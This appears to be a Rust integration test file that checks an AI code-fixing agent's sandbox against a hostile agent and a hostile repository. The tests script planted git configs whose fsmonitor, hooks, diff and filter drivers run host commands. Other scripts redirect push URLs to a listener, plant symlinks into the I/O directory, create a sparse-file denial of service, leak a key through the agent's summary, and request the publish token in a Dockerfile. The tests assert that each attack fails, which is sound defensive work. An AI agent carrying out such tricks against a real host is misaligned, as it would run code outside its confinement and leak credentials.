//! A hostile agent and a hostile repository. Each attack is one that reached the host, a
//! token or GitHub before the defences of SECURITY.md: a `.git` planted with fsmonitor,
//! hooks, an external diff, a filter driver and push URLs; links planted for `job.json` and
//! `result.json`; a 64 GB sparse file; secrets (a PEM key, a Secrets Manager JSON secret, the
//! agent's own key) printed in ERROR lines and in the agent's summary; the publish token
//! asked for by a build; and the agent's own privileges and limits, read from inside it.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use janitor_model::report::{JobStatus, Report, StepName, StepStatus};
use janitor_testkit::{agent_image, broken_worker, ensure_base_image, git_repo, spec, BASE_IMAGE};

/// A loopback listener that counts every connection made to it (a push, a token sent).
async fn tripwire() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hits = Arc::new(AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            counted.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    (url, hits)
}

async fn run(
    name: &str,
    url: &str,
    image: &str,
    edit: impl FnOnce(&mut janitor_pipeline::JobContext),
) -> (Report, Vec<String>) {
    let mut job = spec(name, url, Duration::from_secs(240));
    job.agent_image = Some(image.into());
    let work = tempfile::tempdir().unwrap();
    let mut ctx = janitor_testkit::job_context(
        &format!("{name}-1"),
        "20261203T000000Z-hostile",
        job,
        "local",
        work.path(),
    );
    edit(&mut ctx);
    janitor_testkit::run_in_process(&ctx).await
}

fn attempt_detail(r: &Report, n: usize) -> String {
    r.fix.as_ref().unwrap().attempts[n].agent.detail.clone()
}

/// The agent plants a `.git` with every way git has to run a command or send a token
/// elsewhere, and a `.gitattributes` that names the drivers; the host's git runs none of them
/// (no mark is left on the host), nothing connects to the push URLs, and the attempt is the
/// agent's failure.
#[tokio::test(flavor = "multi_thread")]
async fn a_planted_git_directory_runs_nothing_on_the_host_and_sends_nothing() {
    ensure_base_image();
    let marks = tempfile::tempdir().unwrap();
    let m = marks.path().display();
    let (listener, hits) = tripwire().await;
    agent_image(
        "janitor-test-hostile-git:latest",
        &format!(
            r#"cd /workspace
mkdir -p .git/hooks
cat > .git/config <<CFG
[core]
	repositoryformatversion = 0
	fsmonitor = "touch {m}/fsmonitor; false"
	hooksPath = .git/hooks
[diff]
	external = "touch {m}/diff-external"
[filter "evil"]
	clean = "touch {m}/filter; cat"
	smudge = "touch {m}/filter; cat"
[diff "evil"]
	textconv = "touch {m}/textconv; cat"
[remote "origin"]
	url = {listener}/origin
	pushurl = {listener}/pushurl
[url "{listener}/rewritten/"]
	insteadOf = file://
	pushInsteadOf = file://
[http]
	proxy = {listener}
CFG
for hook in pre-commit post-checkout commit-msg pre-push reference-transaction; do
  printf '#!/bin/sh\ntouch {m}/hook-%s\n' "$hook" "$hook" > .git/hooks/$hook
  chmod +x .git/hooks/$hook
done
echo '* filter=evil diff=evil' > .gitattributes
{fix}"#,
            fix = janitor_testkit::FIX_MODEL
        ),
    );
    let repos = tempfile::tempdir().unwrap();
    let url = broken_worker(&repos.path().join("local"), "hostile-git");
    let gh = janitor_testkit::github::GitHubFixture::start().await;
    let git_url = format!("file://{}", repos.path().display());
    let (r, out) = run(
        "hostile-git",
        &url,
        "janitor-test-hostile-git:latest",
        |ctx| {
            ctx.publish = Some(janitor_pipeline::publish::PublishSettings {
                api_url: gh.url.clone(),
                git_url,
                token: "ghp_hostileTestToken".into(),
                author_name: "janitor-test".into(),
                author_email: "janitor@test".into(),
                status_target_url: None,
            });
        },
    )
    .await;
    let left: Vec<_> = std::fs::read_dir(marks.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(left.is_empty(), "the host ran: {left:?}\n{out:#?}");
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "something connected to the listener"
    );
    assert!(gh.seen().is_empty(), "nothing was published");
    assert_eq!(r.status, JobStatus::Failed, "{r:#?}");
    assert!(
        attempt_detail(&r, 0).contains("the agent left a .git in /workspace"),
        "{r:#?}"
    );
}

/// The agent replaces `.git` with a gitfile pointing at a directory of its own: refused, and
/// the host's git never reads it.
#[tokio::test(flavor = "multi_thread")]
async fn a_planted_gitfile_is_refused() {
    ensure_base_image();
    let marks = tempfile::tempdir().unwrap();
    let m = marks.path().display();
    agent_image(
        "janitor-test-hostile-gitfile:latest",
        &format!(
            r#"cd /workspace
mkdir -p evil.git
printf '[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "touch {m}/gitfile-fsmonitor; false"\n' > evil.git/config
echo 'gitdir: /workspace/evil.git' > .git
{fix}"#,
            fix = janitor_testkit::FIX_MODEL
        ),
    );
    let repos = tempfile::tempdir().unwrap();
    let url = broken_worker(repos.path(), "hostile-gitfile");
    let (r, _) = run(
        "hostile-gitfile",
        &url,
        "janitor-test-hostile-gitfile:latest",
        |_| {},
    )
    .await;
    assert!(std::fs::read_dir(marks.path()).unwrap().next().is_none());
    assert_eq!(r.status, JobStatus::Failed, "{r:#?}");
    assert!(attempt_detail(&r, 0).contains("left a .git"), "{r:#?}");
}

/// Attempt 1 replaces `/janitor/job.json` with a link to a host file (the next write would
/// have gone through it) and makes a change that still fails; attempt 2 answers through a
/// `result.json` link to a host file. The host file is never written, its content never read
/// as the answer, and each attempt had a fresh `/janitor`.
#[tokio::test(flavor = "multi_thread")]
async fn links_planted_in_the_io_directory_are_not_followed() {
    ensure_base_image();
    let host = tempfile::tempdir().unwrap();
    let victim = host.path().join("victim.json");
    std::fs::write(
        &victim,
        r#"{"status":"fixed","summary":"read from the host"}"#,
    )
    .unwrap();
    let v = victim.display();
    agent_image(
        "janitor-test-hostile-links:latest",
        &format!(
            r#"if [ "$JANITOR_ATTEMPT" = 1 ]; then
  rm -f /janitor/job.json
  ln -s {v} /janitor/job.json
  echo 'MODEL=/models/still-wrong.bin' > /workspace/config.env
  printf '{{"status":"fixed","summary":"try 1"}}' > /janitor/result.json
else
  test -f /janitor/job.json && ! test -L /janitor/job.json && echo "agent: a fresh job.json"
  ln -s {v} /janitor/result.json
fi"#
        ),
    );
    let repos = tempfile::tempdir().unwrap();
    let url = broken_worker(repos.path(), "hostile-links");
    let (r, out) = run(
        "hostile-links",
        &url,
        "janitor-test-hostile-links:latest",
        |_| {},
    )
    .await;
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        r#"{"status":"fixed","summary":"read from the host"}"#,
        "the host file was written through the link"
    );
    let fix = r.fix.as_ref().unwrap();
    assert_eq!(fix.attempts.len(), 2, "{r:#?}");
    assert!(
        out.iter().any(|l| l == "[agent] agent: a fresh job.json"),
        "{out:#?}"
    );
    assert!(
        attempt_detail(&r, 1).contains("result.json is a symbolic link"),
        "{r:#?}"
    );
    assert_eq!(r.status, JobStatus::Failed);
}

/// A 64 GB sparse file left in the workspace is refused by name before git reads a byte of
/// it (and the job ends in seconds, not at its deadline).
#[tokio::test(flavor = "multi_thread")]
async fn a_sparse_giant_in_the_workspace_is_refused_by_name() {
    ensure_base_image();
    agent_image(
        "janitor-test-hostile-sparse:latest",
        &format!(
            "truncate -s 64G /workspace/weights.bin\n{}",
            janitor_testkit::FIX_MODEL
        ),
    );
    let repos = tempfile::tempdir().unwrap();
    let url = broken_worker(repos.path(), "hostile-sparse");
    let started = std::time::Instant::now();
    let (r, _) = run(
        "hostile-sparse",
        &url,
        "janitor-test-hostile-sparse:latest",
        |_| {},
    )
    .await;
    assert_eq!(r.status, JobStatus::Failed, "{r:#?}");
    let detail = attempt_detail(&r, 0);
    assert!(
        detail.contains("weights.bin (68719476736 bytes) takes the tree over"),
        "{detail}"
    );
    assert!(
        started.elapsed() < Duration::from_secs(200),
        "bounded by far"
    );
}

/// The agent reads its own user, capabilities, privileges and limits from inside its
/// container and reports them; each is what janitord set.
#[tokio::test(flavor = "multi_thread")]
async fn the_agent_runs_confined() {
    ensure_base_image();
    agent_image(
        "janitor-test-introspect:latest",
        r#"uid=$(id -u)
caps=$(sed -n 's/^CapEff:[[:space:]]*//p' /proc/self/status)
bnd=$(sed -n 's/^CapBnd:[[:space:]]*//p' /proc/self/status)
nnp=$(sed -n 's/^NoNewPrivs:[[:space:]]*//p' /proc/self/status)
mem=$(cat /sys/fs/cgroup/memory.max 2>/dev/null || cat /sys/fs/cgroup/memory/memory.limit_in_bytes)
pids=$(cat /sys/fs/cgroup/pids.max 2>/dev/null || cat /sys/fs/cgroup/pids/pids.max)
if touch /root-is-writable 2>/dev/null; then ro=no; else ro=yes; fi
touch /tmp/tmp-is-writable && tmp=yes
touch /workspace/workspace-is-writable && ws=yes
rm -f /workspace/workspace-is-writable
printf '{"status":"unfixable","summary":"introspected","uid":"%s","cap_eff":"%s","cap_bnd":"%s","no_new_privs":"%s","memory":"%s","pids":"%s","read_only_root":"%s","tmp":"%s","workspace":"%s","home":"%s"}' \
  "$uid" "$caps" "$bnd" "$nnp" "$mem" "$pids" "$ro" "$tmp" "$ws" "$HOME" > "$JANITOR_RESULT""#,
    );
    let repos = tempfile::tempdir().unwrap();
    let url = broken_worker(repos.path(), "confined");
    let (r, out) = run("confined", &url, "janitor-test-introspect:latest", |ctx| {
        ctx.agent_limits = janitor_pipeline::agent::AgentLimits {
            memory_bytes: 512 << 20,
            pids: 256,
            ..Default::default()
        };
    })
    .await;
    let got = r.agent.clone().unwrap_or_default();
    assert_eq!(r.status, JobStatus::Unfixable, "{r:#?}\n{out:#?}");
    assert_eq!(got["uid"], "10001", "{got:#}");
    assert_eq!(got["cap_eff"], "0000000000000000", "{got:#}");
    assert_eq!(got["cap_bnd"], "0000000000000000", "{got:#}");
    assert_eq!(got["no_new_privs"], "1", "{got:#}");
    assert_eq!(got["memory"], (512u64 << 20).to_string(), "{got:#}");
    assert_eq!(got["pids"], "256", "{got:#}");
    assert_eq!(got["read_only_root"], "yes", "{got:#}");
    assert_eq!(got["tmp"], "yes", "{got:#}");
    assert_eq!(got["workspace"], "yes", "{got:#}");
    assert_eq!(got["home"], "/tmp", "{got:#}");
}

const PEM: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU\nAAAAAAAAAAEAAAAzAAAAC3NzaC1lZDI1\n-----END OPENSSH PRIVATE KEY-----";
const DB_JSON: &str = r#"{"username":"janitor","password":"Pa55\"w0rd\\zz"}"#;
const AGENT_KEY: &str = "sk-ant-api03-hostileKeyValue";

/// The worker prints a PEM key line by line and a Secrets Manager JSON secret's password in
/// its ERROR lines; the agent fixes the worker but quotes its own key in its summary. The
/// pull request (title, body, commit message), the report and every line have none of
/// them, and the PEM reached the worker only because the config's `env:` asked for it.
#[tokio::test(flavor = "multi_thread")]
async fn secrets_in_output_and_summary_never_reach_github_or_the_report() {
    ensure_base_image();
    agent_image(
        "janitor-test-leaky-fixer:latest",
        r#"sed -i 's#/models/large.bin#/models/tiny.bin#' /workspace/config.env
printf '{"status":"fixed","summary":"fixed with key %s"}' "$ANTHROPIC_API_KEY" > "$JANITOR_RESULT""#,
    );
    let repos = tempfile::tempdir().unwrap();
    let url = git_repo(
        &repos.path().join("local"),
        "leaky",
        &[
            (
                "Dockerfile",
                &format!(
                    "FROM {BASE_IMAGE}\nRUN mkdir -p /models && echo weights > /models/tiny.bin\nCOPY config.env /config.env\nCOPY handler.sh /handler.sh\nCMD [\"sh\", \"/handler.sh\"]\n"
                ),
            ),
            ("config.env", "MODEL=/models/large.bin\n"),
            (
                "handler.sh",
                ". /config.env\nif [ -f \"$MODEL\" ]; then echo \"loaded $MODEL\"; else echo \"$DEPLOY_KEY\" | sed 's/^/ERROR: key line: /'; echo \"ERROR: db $DB_SECRET refused\"; exit 1; fi\n",
            ),
        ],
    );
    let gh = janitor_testkit::github::GitHubFixture::start().await;
    let git_url = format!("file://{}", repos.path().display());
    let origin = repos.path().join("local/leaky");
    let (r, out) = run("leaky", &url, "janitor-test-leaky-fixer:latest", |ctx| {
        let spec = &mut ctx.job.spec;
        spec.secrets = vec![
            ("DEPLOY".into(), "ssm:/janitor/deploy".into()),
            ("DB".into(), "secretsmanager:janitor/db".into()),
            (
                "ANTHROPIC_API_KEY".into(),
                "secretsmanager:janitor/anthropic".into(),
            ),
        ];
        spec.env = vec![
            ("DEPLOY_KEY".into(), "secret:DEPLOY".into()),
            ("DB_SECRET".into(), "secret:DB".into()),
        ];
        ctx.secrets = janitor_services::secrets::SecretValues::new(vec![
            ("DEPLOY".into(), PEM.into()),
            ("DB".into(), DB_JSON.into()),
            ("ANTHROPIC_API_KEY".into(), AGENT_KEY.into()),
        ]);
        ctx.publish = Some(janitor_pipeline::publish::PublishSettings {
            api_url: gh.url.clone(),
            git_url,
            token: "ghp_leakyTestToken".into(),
            author_name: "janitor-test".into(),
            author_email: "janitor@test".into(),
            status_target_url: None,
        });
    })
    .await;
    assert_eq!(r.status, JobStatus::Fixed, "{r:#?}\n{out:#?}");
    assert_eq!(r.fix.as_ref().unwrap().pr_status, "created", "{r:#?}");
    let pieces = [
        "b3BlbnNzaC1rZXktdjEAAAAABG5vbmU",
        "AAAAAAAAAAEAAAAzAAAAC3NzaC1lZDI1",
        "Pa55\"w0rd\\zz",
        r#"Pa55\"w0rd\\zz"#,
        AGENT_KEY,
        "ghp_leakyTestToken",
    ];
    // What reached GitHub: paths and bodies (the API's own Authorization header is the
    // token, by design).
    let seen: String = gh
        .seen()
        .iter()
        .map(|s| format!("{} {}\n", s.path, s.body))
        .collect();
    let report = serde_json::to_string(&r).unwrap();
    let log = git_log(&origin, "janitor/20261203T000000Z-hostile");
    for p in pieces {
        assert!(!seen.contains(p), "{p} reached GitHub: {seen}");
        assert!(!report.contains(p), "{p} is in the report: {report}");
        assert!(!log.contains(p), "{p} is in the commit: {log}");
        assert!(
            !out.iter().any(|l| l.contains(p)),
            "{p} in a line: {out:#?}"
        );
    }
    // The worker did get the PEM (its ERROR lines are there, redacted).
    assert!(
        out.iter().any(|l| l == "[run] ERROR: key line: ***"),
        "{out:#?}"
    );
    assert!(
        out.iter().any(|l| l == "[run] ERROR: db *** refused"),
        "{out:#?}"
    );
    let posted = &gh.seen()[1].body;
    assert_eq!(posted["title"], "janitor: fixed with key ***", "{posted:#}");
}

fn git_log(repo: &std::path::Path, branch: &str) -> String {
    janitor_testkit::git(repo, &["log", "-1", "--format=%B", branch])
}

/// A repository whose config asks for the publish token as a build secret fails its build
/// with the reason, before anything is built.
#[tokio::test(flavor = "multi_thread")]
async fn the_publish_token_is_never_a_build_secret() {
    ensure_base_image();
    let repos = tempfile::tempdir().unwrap();
    let url = git_repo(
        repos.path(),
        "wants-token",
        &[(
            "Dockerfile",
            &format!("FROM {BASE_IMAGE}\nRUN --mount=type=secret,id=GITHUB_TOKEN cat /run/secrets/GITHUB_TOKEN\n"),
        )],
    );
    let mut job = spec("wants-token", &url, Duration::from_secs(120));
    job.build.secrets = vec!["GITHUB_TOKEN".into()];
    let work = tempfile::tempdir().unwrap();
    let ctx = janitor_testkit::job_context(
        "wants-token-1",
        "20261203T000000Z-tok",
        job,
        "local",
        work.path(),
    );
    std::fs::create_dir_all(&ctx.secrets_dir).unwrap();
    std::fs::write(ctx.secrets_dir.join("GITHUB_TOKEN"), "ghp_instanceOnly\n").unwrap();
    let (r, out) = janitor_testkit::run_in_process(&ctx).await;
    let build = r.step(StepName::Build).unwrap();
    assert_eq!(build.status, StepStatus::Failed, "{r:#?}");
    assert!(
        build.detail.contains("never given to a build"),
        "{}",
        build.detail
    );
    assert!(!out.iter().any(|l| l.contains("ghp_instanceOnly")));
}
